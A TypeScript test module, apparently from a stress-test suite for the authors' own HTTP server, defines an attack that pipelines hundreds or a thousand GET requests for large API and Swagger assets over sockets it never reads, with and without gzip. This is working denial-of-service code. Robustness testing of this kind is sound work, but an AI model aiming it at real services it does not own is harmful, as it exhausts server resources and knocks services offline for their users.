import type { Socket } from 'node:net'
import type { Attack } from './target.ts'

const connectionsMax = 4

/** Pipelines requests for large answers, and reads none: 300 and 1,000, with and without compression. */
export const pipelinedRequests: Attack = async (target) => {
  const open: Socket[] = []
  let round = 0
  return async () => {
    round += 1
    const path = ['/docs/assets/swagger-ui-bundle.js', '/api/openapi.json'][(round >> 2) & 1]
    const encoding = round & 1 ? 'accept-encoding: gzip\r\n' : ''
    const head = `GET ${path} HTTP/1.1\r\nhost: localhost\r\nauthorization: ${target.authorization}\r\n${encoding}\r\n`
    const socket = target.openUnread()
    open.push(socket)
    socket.write(head.repeat(round & 2 ? 1000 : 300))
    if (open.length > connectionsMax) open.shift()?.destroy()
  }
}
